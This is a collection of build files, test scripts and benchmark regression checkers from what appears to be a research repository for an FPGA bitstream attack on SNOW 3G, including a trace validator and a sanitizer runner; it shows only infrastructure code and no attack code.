  "/root/repo/src/mapper/mapper.cpp" "src/mapper/CMakeFiles/sbm_mapper.dir/mapper.cpp.o" "gcc" "src/mapper/CMakeFiles/sbm_mapper.dir/mapper.cpp.o.d"
  "/root/repo/src/mapper/packing.cpp" "src/mapper/CMakeFiles/sbm_mapper.dir/packing.cpp.o" "gcc" "src/mapper/CMakeFiles/sbm_mapper.dir/packing.cpp.o.d"
  "/root/repo/src/mapper/sta.cpp" "src/mapper/CMakeFiles/sbm_mapper.dir/sta.cpp.o" "gcc" "src/mapper/CMakeFiles/sbm_mapper.dir/sta.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/netlist/CMakeFiles/sbm_netlist.dir/DependInfo.cmake"
  "/root/repo/build/src/logic/CMakeFiles/sbm_logic.dir/DependInfo.cmake"
  "/root/repo/build/src/snow3g/CMakeFiles/sbm_snow3g.dir/DependInfo.cmake"
  "/root/repo/build/src/crypto/CMakeFiles/sbm_crypto.dir/DependInfo.cmake"
  "/root/repo/build/src/common/CMakeFiles/sbm_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
