# Empty compiler generated dependencies file for sbm_netlist.
# This may be replaced when dependencies are built.
