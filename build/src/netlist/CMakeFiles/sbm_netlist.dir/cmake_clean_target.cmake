file(REMOVE_RECURSE
  "libsbm_netlist.a"
)
