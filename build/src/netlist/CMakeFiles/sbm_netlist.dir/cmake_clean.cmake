file(REMOVE_RECURSE
  "CMakeFiles/sbm_netlist.dir/netlist.cpp.o"
  "CMakeFiles/sbm_netlist.dir/netlist.cpp.o.d"
  "CMakeFiles/sbm_netlist.dir/sim.cpp.o"
  "CMakeFiles/sbm_netlist.dir/sim.cpp.o.d"
  "CMakeFiles/sbm_netlist.dir/snow3g_design.cpp.o"
  "CMakeFiles/sbm_netlist.dir/snow3g_design.cpp.o.d"
  "libsbm_netlist.a"
  "libsbm_netlist.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sbm_netlist.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
