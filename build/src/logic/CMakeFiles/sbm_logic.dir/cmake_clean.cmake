file(REMOVE_RECURSE
  "CMakeFiles/sbm_logic.dir/families.cpp.o"
  "CMakeFiles/sbm_logic.dir/families.cpp.o.d"
  "CMakeFiles/sbm_logic.dir/truth_table.cpp.o"
  "CMakeFiles/sbm_logic.dir/truth_table.cpp.o.d"
  "libsbm_logic.a"
  "libsbm_logic.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sbm_logic.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
