file(REMOVE_RECURSE
  "libsbm_logic.a"
)
