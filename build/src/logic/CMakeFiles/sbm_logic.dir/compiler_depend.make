# Empty compiler generated dependencies file for sbm_logic.
# This may be replaced when dependencies are built.
