# Empty compiler generated dependencies file for sbm_common.
# This may be replaced when dependencies are built.
