file(REMOVE_RECURSE
  "libsbm_common.a"
)
