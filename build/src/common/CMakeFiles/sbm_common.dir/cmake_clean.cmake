file(REMOVE_RECURSE
  "CMakeFiles/sbm_common.dir/hex.cpp.o"
  "CMakeFiles/sbm_common.dir/hex.cpp.o.d"
  "libsbm_common.a"
  "libsbm_common.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sbm_common.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
