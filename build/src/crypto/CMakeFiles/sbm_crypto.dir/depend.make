# Empty dependencies file for sbm_crypto.
# This may be replaced when dependencies are built.
