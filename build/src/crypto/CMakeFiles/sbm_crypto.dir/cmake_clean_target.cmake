file(REMOVE_RECURSE
  "libsbm_crypto.a"
)
