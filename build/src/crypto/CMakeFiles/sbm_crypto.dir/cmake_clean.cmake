file(REMOVE_RECURSE
  "CMakeFiles/sbm_crypto.dir/aes256.cpp.o"
  "CMakeFiles/sbm_crypto.dir/aes256.cpp.o.d"
  "CMakeFiles/sbm_crypto.dir/crc32.cpp.o"
  "CMakeFiles/sbm_crypto.dir/crc32.cpp.o.d"
  "CMakeFiles/sbm_crypto.dir/hmac.cpp.o"
  "CMakeFiles/sbm_crypto.dir/hmac.cpp.o.d"
  "CMakeFiles/sbm_crypto.dir/sha256.cpp.o"
  "CMakeFiles/sbm_crypto.dir/sha256.cpp.o.d"
  "libsbm_crypto.a"
  "libsbm_crypto.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sbm_crypto.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
