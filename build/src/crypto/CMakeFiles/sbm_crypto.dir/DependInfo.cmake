
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/crypto/aes256.cpp" "src/crypto/CMakeFiles/sbm_crypto.dir/aes256.cpp.o" "gcc" "src/crypto/CMakeFiles/sbm_crypto.dir/aes256.cpp.o.d"
  "/root/repo/src/crypto/crc32.cpp" "src/crypto/CMakeFiles/sbm_crypto.dir/crc32.cpp.o" "gcc" "src/crypto/CMakeFiles/sbm_crypto.dir/crc32.cpp.o.d"
  "/root/repo/src/crypto/hmac.cpp" "src/crypto/CMakeFiles/sbm_crypto.dir/hmac.cpp.o" "gcc" "src/crypto/CMakeFiles/sbm_crypto.dir/hmac.cpp.o.d"
  "/root/repo/src/crypto/sha256.cpp" "src/crypto/CMakeFiles/sbm_crypto.dir/sha256.cpp.o" "gcc" "src/crypto/CMakeFiles/sbm_crypto.dir/sha256.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/common/CMakeFiles/sbm_common.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
