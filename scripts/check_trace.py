#!/usr/bin/env python3
"""Validate a Chrome trace_event JSON file (as written by the obs tracer).

Checks, per (pid, tid) track:
  * every event has the required keys (name, ph, ts, pid, tid) with sane
    types; 'X' events also need a non-negative dur;
  * timestamps and durations are non-negative integers;
  * 'X' (complete) spans are properly nested: sorted by (ts, -dur), every
    span must end no later than the enclosing span still open on its track
    (structural balance -- a shard span cannot outlive its scan_all parent);
  * the file-order event stream of each tid is ts-monotone (the tracer
    emits per-thread buffers in append order).

Accepts either the {"traceEvents": [...]} object form (what the tracer
writes) or a bare JSON array of events.  Exits 0 when the trace is valid,
1 with a diagnostic otherwise.

Usage: check_trace.py TRACE.json [TRACE2.json ...]
"""

import json
import sys

REQUIRED_KEYS = ("name", "ph", "ts", "pid", "tid")
KNOWN_PHASES = {"X", "i", "B", "E", "M", "C"}


def fail(path, message):
    print(f"check_trace: {path}: {message}")
    return False


def load_events(path):
    with open(path, "r", encoding="utf-8") as f:
        doc = json.load(f)
    if isinstance(doc, dict):
        events = doc.get("traceEvents")
        if not isinstance(events, list):
            raise ValueError("object form must carry a 'traceEvents' array")
        return events
    if isinstance(doc, list):
        return doc
    raise ValueError("top level must be an object or an array")


def check_event_shape(path, i, e):
    if not isinstance(e, dict):
        return fail(path, f"event {i}: not an object")
    for key in REQUIRED_KEYS:
        if key not in e:
            return fail(path, f"event {i}: missing required key '{key}'")
    if not isinstance(e["name"], str) or not isinstance(e["ph"], str):
        return fail(path, f"event {i}: name/ph must be strings")
    if e["ph"] not in KNOWN_PHASES:
        return fail(path, f"event {i}: unknown phase '{e['ph']}'")
    for key in ("ts", "pid", "tid"):
        if not isinstance(e[key], (int, float)) or isinstance(e[key], bool):
            return fail(path, f"event {i}: '{key}' must be a number")
    if e["ts"] < 0:
        return fail(path, f"event {i}: negative ts {e['ts']}")
    if e["ph"] == "X":
        dur = e.get("dur")
        if not isinstance(dur, (int, float)) or isinstance(dur, bool) or dur < 0:
            return fail(path, f"event {i}: 'X' event needs a non-negative dur")
    if "args" in e and not isinstance(e["args"], dict):
        return fail(path, f"event {i}: args must be an object")
    return True


def check_span_nesting(path, track, spans):
    """spans: list of (ts, dur, name), sorted by (ts, -dur).  Standard
    interval-nesting check with a stack of open end times."""
    stack = []  # (end, name)
    for ts, dur, name in spans:
        end = ts + dur
        while stack and ts >= stack[-1][0]:
            stack.pop()
        if stack and end > stack[-1][0]:
            return fail(
                path,
                f"track {track}: span '{name}' [{ts}, {end}) overlaps but is not "
                f"nested inside '{stack[-1][1]}' (ends {stack[-1][0]})",
            )
        stack.append((end, name))
    return True


def check_file(path):
    try:
        events = load_events(path)
    except (OSError, ValueError, json.JSONDecodeError) as err:
        return fail(path, str(err))

    tracks = {}  # (pid, tid) -> list of spans
    file_order_ts = {}  # (pid, tid) -> last ts seen in file order
    for i, e in enumerate(events):
        if not check_event_shape(path, i, e):
            return False
        key = (e["pid"], e["tid"])
        last = file_order_ts.get(key)
        if last is not None and e["ts"] < last:
            return fail(
                path,
                f"track {key}: event {i} ('{e['name']}') ts {e['ts']} goes "
                f"backwards (previous {last})",
            )
        file_order_ts[key] = e["ts"]
        if e["ph"] == "X":
            tracks.setdefault(key, []).append((e["ts"], e["dur"], e["name"]))

    for track, spans in sorted(tracks.items()):
        spans.sort(key=lambda s: (s[0], -s[1]))
        if not check_span_nesting(path, track, spans):
            return False

    n_spans = sum(len(s) for s in tracks.values())
    print(
        f"check_trace: {path}: OK ({len(events)} events, {n_spans} spans, "
        f"{len(file_order_ts)} tracks)"
    )
    return True


def main(argv):
    if len(argv) < 2:
        print(__doc__.strip())
        return 2
    ok = all([check_file(path) for path in argv[1:]])
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv))
