#!/usr/bin/env bash
# Tier-1 test suite under ThreadSanitizer and AddressSanitizer.
#
# Each sanitizer gets its own build tree (build-tsan/, build-asan/) configured
# with the repo's SBM_SANITIZE cache option, so the instrumented builds never
# pollute the regular build/ directory.  TSan is the one that matters for the
# runtime/campaign fan-out layers; ASan covers the byte-twiddling bitstream
# and attack code.
#
# Usage:
#   scripts/run_sanitizers.sh                 # full tier-1 suite, both sanitizers
#   scripts/run_sanitizers.sh thread          # one sanitizer only (thread|address)
#   scripts/run_sanitizers.sh --smoke         # fast subset (runtime + faultsim unit
#                                             # tests), both sanitizers — the ctest
#                                             # `sanitize` target runs this
#   scripts/run_sanitizers.sh --smoke address # fast subset, one sanitizer
#
# Exit code 0 = every selected run passed.
set -euo pipefail

cd "$(dirname "$0")/.."

smoke=0
sanitizers=()
for arg in "$@"; do
  case "$arg" in
    --smoke) smoke=1 ;;
    thread|address) sanitizers+=("$arg") ;;
    *)
      echo "usage: $0 [--smoke] [thread|address]..." >&2
      exit 2
      ;;
  esac
done
if [ ${#sanitizers[@]} -eq 0 ]; then
  sanitizers=(thread address)
fi

# The smoke subset: concurrency primitives, the fault model, the probe
# layer, the observability layer (sharded counters, per-thread trace
# buffers), the board fleet (failover + health tracking) and the campaign
# service (worker threads + socket reactor + fair scheduler — the most
# thread-shaped code in the repo) and the countermeasure cracker (pooled
# candidate scans + multi-threaded crack campaigns) — where a
# sanitizer finding is most likely and the runs are cheap enough for CI.
# The full run takes the whole tier-1 label.
smoke_filter='^(ThreadPool|Parallel|ProbeCache|Retry|FaultyOracle|NoiseProfile|ProbeCacheGuard|AttackCheckpoint|ObsMode|Metrics|Trace|Orchestrator|ServiceProtocol|FairScheduler|JobStore|ServiceSocket|ServiceRestart|ServiceMetricsParity|ServiceDeadline|SimdDispatch|SimdLaneVec|SimdTranspose|FlatMap|ProbeCacheFlatMap|AdaptiveController|StaticController|AdaptivePipeline|AdaptiveCampaign|ControllerConfig|FleetOracleTest|FleetCampaign|DecoyHypothesis|Cracker|CrackCampaign|CrackService)'

status=0
for san in "${sanitizers[@]}"; do
  dir="build-${san:0:1}san"   # build-tsan / build-asan
  echo "=== [$san sanitizer] configure + build ($dir) ==="
  cmake -B "$dir" -S . -DSBM_SANITIZE="$san" -DCMAKE_BUILD_TYPE=RelWithDebInfo >/dev/null
  if [ "$smoke" -eq 1 ]; then
    cmake --build "$dir" -j --target test_runtime test_faultsim test_obs \
      test_orchestrator test_service test_simd test_probe_controller test_fleet \
      test_cracker
  else
    cmake --build "$dir" -j
  fi

  echo "=== [$san sanitizer] ctest ==="
  if [ "$smoke" -eq 1 ]; then
    (cd "$dir" && ctest --output-on-failure -j "$(nproc)" -R "$smoke_filter") || status=1
  else
    (cd "$dir" && ctest --output-on-failure -j "$(nproc)" -L tier1) || status=1
  fi
done

if [ "$status" -eq 0 ]; then
  echo "sanitizer runs passed"
else
  echo "sanitizer runs FAILED" >&2
fi
exit "$status"
