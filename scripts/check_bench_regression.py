#!/usr/bin/env python3
"""Guard against attack-pipeline and scan-engine wall-clock regressions.

Compares a freshly generated bench JSON against the baseline committed at
the repository root.  Two schemas are understood, keyed on the file's
contents:

* BENCH_attack_e2e.json (written by build/bench/bench_attack_e2e): fails
  when the runtime configuration's wall_seconds regressed by more than the
  threshold, or when the scalar/batched bit-identity flag went false.
  When both files carry the "obs" entry the observability contract is also
  enforced: the obs-on run performs the same oracle work as the clean run,
  and the obs-off runtime_1t stays within 3% of the instrumented baseline.
* BENCH_findlut_scaling.json ("bench": "findlut_scaling", written by
  build/bench/bench_findlut_scaling): fails when any family-sweep row's
  engine/legacy match lists diverged (identical=false), or when a row's
  one-pass engine wall-clock regressed by more than the threshold against
  the baseline row with the same (candidates, kib).
* BENCH_service.json ("bench": "service", written by
  build/bench/bench_service): fails when the campaign daemon lost or
  duplicated a job (always enforced), when sustained jobs/s fell below
  1/threshold of the baseline, or when the e2e p99 / protocol round-trip
  p99 latencies regressed past the threshold.  Wall-clock comparisons are
  skipped when fresh and baseline were produced at different scales
  (smoke vs full).

Usage:
    scripts/check_bench_regression.py FRESH_JSON [BASELINE_JSON]

BASELINE_JSON defaults to the matching baseline next to this repository's
root.  Exit code 0 = within budget, 1 = regression or malformed input.
"""

import json
import pathlib
import sys

THRESHOLD = 1.25  # fail when fresh wall-clock > 125% of the baseline
# Sub-millisecond scan rows need absolute slack on top of the ratio, or
# scheduler noise on a loaded CI box fails a 100 microsecond measurement.
ABS_SLACK_SECONDS = 0.005

REPO_ROOT = pathlib.Path(__file__).resolve().parent.parent


def load(path):
    try:
        with open(path, "r", encoding="utf-8") as f:
            return json.load(f)
    except (OSError, ValueError) as e:
        print(f"error: cannot read {path}: {e}", file=sys.stderr)
        sys.exit(1)


# Retry-overhead budget for the fault-tolerant configuration: the noisy
# attack (mild noise + agreement voting) may spend at most this multiple of
# the clean uncached run's oracle reconfigurations on physical probe work.
NOISY_OVERHEAD_FACTOR = 3

# The adaptive sequential-test controller's reason to exist is a tighter
# physical-run ceiling on the same noisy board: at most 2x the clean
# uncached run's probe work where the static 3-vote needs ~2.6x.
ADAPTIVE_OVERHEAD_FACTOR = 2.0

# Disabled-observability guarantee (DESIGN.md §4g): with SBM_OBS off, the
# instrumented runtime_1t configuration may cost at most 3% over the
# committed baseline (plus absolute slack for scheduler noise on short
# runs).  Only enforced when both files carry an "obs" entry, i.e. both
# were produced by an instrumented binary.
OBS_DISABLED_THRESHOLD = 1.03
OBS_ABS_SLACK_SECONDS = 0.15


def check_attack_e2e(fresh, baseline):
    ok = True
    if fresh.get("results_identical") is False:
        print("FAIL: scalar and batched attack results diverged (results_identical=false)")
        ok = False

    for entry in ("runtime", "runtime_1t", "noisy", "noisy_adaptive", "obs",
                  "fleet_deathmatch", "cracker",
                  "runtime_1t_scalar", "runtime_1t_avx2", "runtime_1t_avx512"):
        base = baseline.get(entry, {}).get("wall_seconds")
        new = fresh.get(entry, {}).get("wall_seconds")
        if base is None or new is None:
            # Older baselines predate runtime_1t/noisy and the per-backend
            # entries (which also vary with the build host's ISA); only the
            # entries both files carry are comparable.
            continue
        budget = base * THRESHOLD
        status = "ok" if new <= budget else "REGRESSED"
        print(f"{entry}: {new:.3f}s vs baseline {base:.3f}s (budget {budget:.3f}s) {status}")
        if new > budget:
            ok = False

    # SIMD backend equivalence: every per-backend runtime_1t entry must do
    # exactly the same logical work as the main runtime_1t run — the backend
    # choice is pure wall-clock, never behavioral.
    ref = fresh.get("runtime_1t", {})
    for entry in ("runtime_1t_scalar", "runtime_1t_avx2", "runtime_1t_avx512"):
        run = fresh.get(entry)
        if run is None:
            continue
        for field in ("oracle_runs", "cache_hits", "probe_calls"):
            if ref.get(field) is not None and run.get(field) != ref.get(field):
                print(f"FAIL: {entry}.{field} {run.get(field)} != "
                      f"runtime_1t.{field} {ref.get(field)} (backend changed the attack)")
                ok = False

    for name, factor in (("noisy", NOISY_OVERHEAD_FACTOR),
                         ("noisy_adaptive", ADAPTIVE_OVERHEAD_FACTOR)):
        noisy = fresh.get(name)
        if noisy is None:
            continue  # older baselines predate the adaptive entry
        if noisy.get("success") is not True:
            print(f"FAIL: {name} attack did not recover the key ({name}.success=false)")
            ok = False
        # The paper metric must be noise- and controller-invariant: same
        # logical run count as the clean cached configuration.
        clean_runs = fresh.get("runtime_1t", {}).get("oracle_runs")
        if clean_runs is not None and noisy.get("oracle_runs") != clean_runs:
            print(f"FAIL: {name} oracle_runs {noisy.get('oracle_runs')} != clean "
                  f"{clean_runs} (the paper metric moved under noise)")
            ok = False
        # Retry/vote overhead budget, measured against the clean run's total
        # probe work (the plain configuration's reconfiguration count).  The
        # adaptive controller gets the tight 2x ceiling — that ceiling is the
        # controller's reason to exist.
        probe_work = fresh.get("plain", {}).get("oracle_runs")
        physical = noisy.get("physical_runs")
        if probe_work is not None and physical is not None:
            budget = factor * probe_work
            status = "ok" if physical <= budget else "OVER BUDGET"
            print(f"{name} physical runs: {physical} vs budget {budget:.0f} "
                  f"({factor}x clean {probe_work}) {status}")
            if physical > budget:
                ok = False
        expected = (noisy.get("oracle_runs", 0) + noisy.get("retry_runs", 0)
                    + noisy.get("vote_runs", 0))
        if physical is not None and physical != expected:
            print(f"FAIL: {name} physical_runs {physical} != oracle+retry+vote {expected}")
            ok = False
        # Every probe must ride the wide batch path: a singleton straggler
        # falling back to one-lane reconfiguration is a scheduler bug.
        if noisy.get("singleton_runs", 0) != 0:
            print(f"FAIL: {name} singleton_runs = {noisy.get('singleton_runs')} (must be 0)")
            ok = False

    # Fleet failover contract: the deathmatch profile must keep killing the
    # single-board control (or the scenario proves nothing), the 4-board
    # fleet must finish with the clean run's exact logical cost, and the
    # physical ledger must balance including migration replays.  Lost
    # probes and singleton stragglers are scheduler bugs at any count.
    fleet = fresh.get("fleet_deathmatch")
    if fleet is not None:
        if fleet.get("success") is not True:
            print("FAIL: fleet_deathmatch did not recover the key (fleet.success=false)")
            ok = False
        if fleet.get("single_success") is not False:
            print("FAIL: fleet_deathmatch single-board control survived "
                  "(the death profile lost its teeth)")
            ok = False
        clean_runs = fresh.get("runtime_1t", {}).get("oracle_runs")
        if clean_runs is not None and fleet.get("oracle_runs") != clean_runs:
            print(f"FAIL: fleet_deathmatch oracle_runs {fleet.get('oracle_runs')} != clean "
                  f"{clean_runs} (the paper metric moved under board death)")
            ok = False
        expected = (fleet.get("oracle_runs", 0) + fleet.get("retry_runs", 0)
                    + fleet.get("vote_runs", 0) + fleet.get("migration_runs", 0))
        physical = fleet.get("physical_runs")
        if physical is not None and physical != expected:
            print(f"FAIL: fleet_deathmatch physical_runs {physical} != "
                  f"oracle+retry+vote+migration {expected}")
            ok = False
        for field in ("lost_probes", "singleton_runs"):
            if fleet.get(field, 0) != 0:
                print(f"FAIL: fleet_deathmatch {field} = {fleet.get(field)} (must be 0)")
                ok = False
        if fleet.get("migrations", 0) < 1:
            print("FAIL: fleet_deathmatch recorded no migration (board 0 never died?)")
            ok = False

    # Countermeasure-cracker contract (DESIGN.md §4l): the adaptive cracker
    # must uniquely identify the true sources in exponentially fewer probes
    # than the static C(n-32,32) bound the defender advertises, and the
    # response-equalized strengthening must both survive (proof of ambiguity,
    # no unique identification) and cost strictly more adaptive probes.
    cracker = fresh.get("cracker")
    if cracker is not None:
        import math
        if cracker.get("unique") is not True:
            print("FAIL: cracker did not uniquely identify the protected "
                  "victim's sources (cracker.unique=false)")
            ok = False
        probes = cracker.get("adaptive_probes", 0)
        bound = cracker.get("log2_static_bound", 0)
        if probes <= 0 or bound - math.log2(probes) <= 80:
            print(f"FAIL: cracker adaptive_probes {probes} not exponentially "
                  f"below the static bound 2^{bound:.1f}")
            ok = False
        else:
            print(f"cracker: {probes} adaptive probes vs static bound "
                  f"2^{bound:.1f} ok")
        eq_probes = cracker.get("equalized_adaptive_probes", 0)
        if eq_probes <= probes:
            print(f"FAIL: equalized countermeasure did not raise the adaptive "
                  f"probe cost ({eq_probes} <= {probes})")
            ok = False
        else:
            print(f"cracker equalized: {eq_probes} adaptive probes "
                  f"(> plain {probes}) ok")
        if cracker.get("equalized_proven_ambiguous") is not True:
            print("FAIL: equalized countermeasure was not proven ambiguous "
                  "(the strengthening lost its teeth)")
            ok = False

    adaptive = fresh.get("noisy_adaptive")
    static = fresh.get("noisy")
    if adaptive is not None and static is not None:
        # The adaptive controller must beat the static vote on the same
        # board, in both physical probe work and wall clock.
        if adaptive.get("physical_runs", 0) >= static.get("physical_runs", 1 << 62):
            print(f"FAIL: adaptive physical_runs {adaptive.get('physical_runs')} not below "
                  f"static {static.get('physical_runs')}")
            ok = False
        a_wall, s_wall = adaptive.get("wall_seconds"), static.get("wall_seconds")
        if a_wall is not None and s_wall is not None:
            status = "ok" if a_wall < s_wall else "REGRESSED"
            print(f"noisy_adaptive wall: {a_wall:.3f}s vs static noisy {s_wall:.3f}s {status}")
            if a_wall >= s_wall:
                ok = False

    # The noise-level sweep is informational for cost, but the attack must
    # come through every level it reports.
    for level, run in sorted(fresh.get("noise_sweep", {}).items()):
        if run.get("success") is not True:
            print(f"FAIL: noise_sweep[{level}] did not recover the key")
            ok = False

    obs = fresh.get("obs")
    if obs is not None:
        # Observability must never change logical behaviour: the traced run
        # performs exactly the same oracle work as the clean cached run.
        clean_runs = fresh.get("runtime_1t", {}).get("oracle_runs")
        if clean_runs is not None and obs.get("oracle_runs") != clean_runs:
            print(f"FAIL: obs-on oracle_runs {obs.get('oracle_runs')} != clean "
                  f"{clean_runs} (tracing changed the attack's logical work)")
            ok = False
        if obs.get("trace_events", 0) <= 0:
            print("FAIL: obs-on run recorded no trace events")
            ok = False
    if obs is not None and baseline.get("obs") is not None:
        # Disabled-mode overhead guarantee: runtime_1t runs with the layer
        # off, so against an instrumented baseline it gets the tight budget.
        base = baseline.get("runtime_1t", {}).get("wall_seconds")
        new = fresh.get("runtime_1t", {}).get("wall_seconds")
        if base is not None and new is not None:
            budget = base * OBS_DISABLED_THRESHOLD + OBS_ABS_SLACK_SECONDS
            status = "ok" if new <= budget else "REGRESSED"
            print(f"obs-disabled runtime_1t: {new:.3f}s vs baseline {base:.3f}s "
                  f"(tight budget {budget:.3f}s) {status}")
            if new > budget:
                ok = False
    return ok


def check_findlut_scaling(fresh, baseline):
    ok = True
    base_rows = {
        (row.get("candidates"), row.get("kib")): row
        for row in baseline.get("family_sweep", [])
    }
    for row in fresh.get("family_sweep", []):
        key = (row.get("candidates"), row.get("kib"))
        label = f"{key[0]} candidates x {key[1]} KiB"
        if row.get("identical") is not True:
            print(f"FAIL: {label}: engine and legacy match lists diverged")
            ok = False
        base = base_rows.get(key)
        new = row.get("engine_seconds")
        if base is None or new is None:
            # Rows only present on one side are informational, not comparable.
            continue
        base_wall = base.get("engine_seconds")
        if base_wall is None:
            continue
        budget = base_wall * THRESHOLD + ABS_SLACK_SECONDS
        status = "ok" if new <= budget else "REGRESSED"
        speedup = row.get("speedup")
        extra = f", {speedup:.1f}x over legacy" if isinstance(speedup, (int, float)) else ""
        print(f"{label}: engine {new:.4f}s vs baseline {base_wall:.4f}s "
              f"(budget {budget:.4f}s){extra} {status}")
        if new > budget:
            ok = False
        # Index compile time (once per family per campaign) gets the same
        # ratio + absolute-slack gate; older baselines predate the field.
        base_build = base.get("index_build_seconds")
        new_build = row.get("index_build_seconds")
        if base_build is not None and new_build is not None:
            budget = base_build * THRESHOLD + ABS_SLACK_SECONDS
            status = "ok" if new_build <= budget else "REGRESSED"
            print(f"{label}: index build {new_build:.4f}s vs baseline "
                  f"{base_build:.4f}s (budget {budget:.4f}s) {status}")
            if new_build > budget:
                ok = False
    return ok


# Latency gates on a loaded single-core CI box need absolute slack on top
# of the ratio: the sustained run's tail is scheduler-noise territory and
# the round-trip floor is measured in tens of microseconds.
SERVICE_E2E_SLACK_MS = 250.0
SERVICE_RTT_SLACK_MS = 0.5


def check_service(fresh, baseline):
    ok = True
    sustained = fresh.get("sustained", {})

    # Correctness audit — enforced unconditionally: a lost or duplicated job
    # is a daemon bug at any scale.
    for key in ("lost", "duplicates"):
        if sustained.get(key, 0) != 0:
            print(f"FAIL: sustained.{key} = {sustained.get(key)} (must be 0)")
            ok = False
    if sustained.get("completed") != sustained.get("accepted"):
        print(f"FAIL: completed {sustained.get('completed')} != accepted "
              f"{sustained.get('accepted')}")
        ok = False

    if fresh.get("smoke") != baseline.get("smoke") or (
            fresh.get("clients") != baseline.get("clients")):
        print("note: fresh and baseline ran at different scales; "
              "skipping throughput/latency comparison")
        return ok

    base_sustained = baseline.get("sustained", {})
    base_jps = base_sustained.get("jobs_per_s")
    new_jps = sustained.get("jobs_per_s")
    if base_jps is not None and new_jps is not None:
        floor = base_jps / THRESHOLD
        status = "ok" if new_jps >= floor else "REGRESSED"
        print(f"sustained jobs/s: {new_jps:.0f} vs baseline {base_jps:.0f} "
              f"(floor {floor:.0f}) {status}")
        if new_jps < floor:
            ok = False

    base_p99 = base_sustained.get("e2e_p99_ms")
    new_p99 = sustained.get("e2e_p99_ms")
    if base_p99 is not None and new_p99 is not None:
        budget = base_p99 * THRESHOLD + SERVICE_E2E_SLACK_MS
        status = "ok" if new_p99 <= budget else "REGRESSED"
        print(f"e2e p99: {new_p99:.1f}ms vs baseline {base_p99:.1f}ms "
              f"(budget {budget:.1f}ms) {status}")
        if new_p99 > budget:
            ok = False

    base_rtt = baseline.get("roundtrip", {}).get("p99_ms")
    new_rtt = fresh.get("roundtrip", {}).get("p99_ms")
    if base_rtt is not None and new_rtt is not None:
        budget = base_rtt * THRESHOLD + SERVICE_RTT_SLACK_MS
        status = "ok" if new_rtt <= budget else "REGRESSED"
        print(f"roundtrip p99: {new_rtt:.3f}ms vs baseline {base_rtt:.3f}ms "
              f"(budget {budget:.3f}ms) {status}")
        if new_rtt > budget:
            ok = False
    return ok


def main(argv):
    if len(argv) < 2 or len(argv) > 3:
        print(__doc__, file=sys.stderr)
        return 1
    fresh = load(argv[1])
    bench = fresh.get("bench")
    if bench == "findlut_scaling":
        default_name, check = "BENCH_findlut_scaling.json", check_findlut_scaling
    elif bench == "service":
        default_name, check = "BENCH_service.json", check_service
    else:
        default_name, check = "BENCH_attack_e2e.json", check_attack_e2e
    baseline = load(argv[2] if len(argv) == 3 else REPO_ROOT / default_name)

    ok = check(fresh, baseline)
    if not ok:
        return 1
    print("bench within budget")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
