#!/usr/bin/env python3
"""Guard against attack-pipeline wall-clock regressions.

Compares a freshly generated BENCH_attack_e2e.json (written by
build/bench/bench_attack_e2e into its working directory) against the
baseline committed at the repository root.  Fails when the runtime
configuration's wall_seconds regressed by more than the threshold, or when
the scalar/batched bit-identity flag went false.

Usage:
    scripts/check_bench_regression.py FRESH_JSON [BASELINE_JSON]

BASELINE_JSON defaults to BENCH_attack_e2e.json next to this repository's
root.  Exit code 0 = within budget, 1 = regression or malformed input.
"""

import json
import pathlib
import sys

THRESHOLD = 1.25  # fail when fresh wall-clock > 125% of the baseline


def load(path):
    try:
        with open(path, "r", encoding="utf-8") as f:
            return json.load(f)
    except (OSError, ValueError) as e:
        print(f"error: cannot read {path}: {e}", file=sys.stderr)
        sys.exit(1)


def main(argv):
    if len(argv) < 2 or len(argv) > 3:
        print(__doc__, file=sys.stderr)
        return 1
    fresh_path = argv[1]
    baseline_path = (
        argv[2]
        if len(argv) == 3
        else pathlib.Path(__file__).resolve().parent.parent / "BENCH_attack_e2e.json"
    )
    fresh = load(fresh_path)
    baseline = load(baseline_path)

    ok = True
    if fresh.get("results_identical") is False:
        print("FAIL: scalar and batched attack results diverged (results_identical=false)")
        ok = False

    for entry in ("runtime", "runtime_1t"):
        base = baseline.get(entry, {}).get("wall_seconds")
        new = fresh.get(entry, {}).get("wall_seconds")
        if base is None or new is None:
            # Older baselines predate runtime_1t; only the entries both files
            # carry are comparable.
            continue
        budget = base * THRESHOLD
        status = "ok" if new <= budget else "REGRESSED"
        print(f"{entry}: {new:.3f}s vs baseline {base:.3f}s (budget {budget:.3f}s) {status}")
        if new > budget:
            ok = False

    if not ok:
        return 1
    print("bench within budget")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
