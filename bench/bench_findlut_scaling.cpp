// Section VI-B performance claim: "For bitstreams of size less than 10 MB
// and k = 6, our tool takes less than 4 sec to execute for a given f."
//
// Benchmarks the optimized FINDLUT on synthetic bitstreams up to 10 MB, and
// the literal Algorithm 1 transcription on smaller inputs (it is the
// exponential-constant version the optimized scan replaces).
#include <benchmark/benchmark.h>

#include <chrono>
#include <cstdio>

#include "attack/findlut.h"
#include "attack/scan.h"
#include "bitstream/patcher.h"
#include "common/json.h"
#include "common/rng.h"

namespace {

using namespace sbm;
using namespace sbm::attack;

std::vector<u8> synthetic_bitstream(size_t size, unsigned planted) {
  Rng rng(42);
  std::vector<u8> bytes(size);
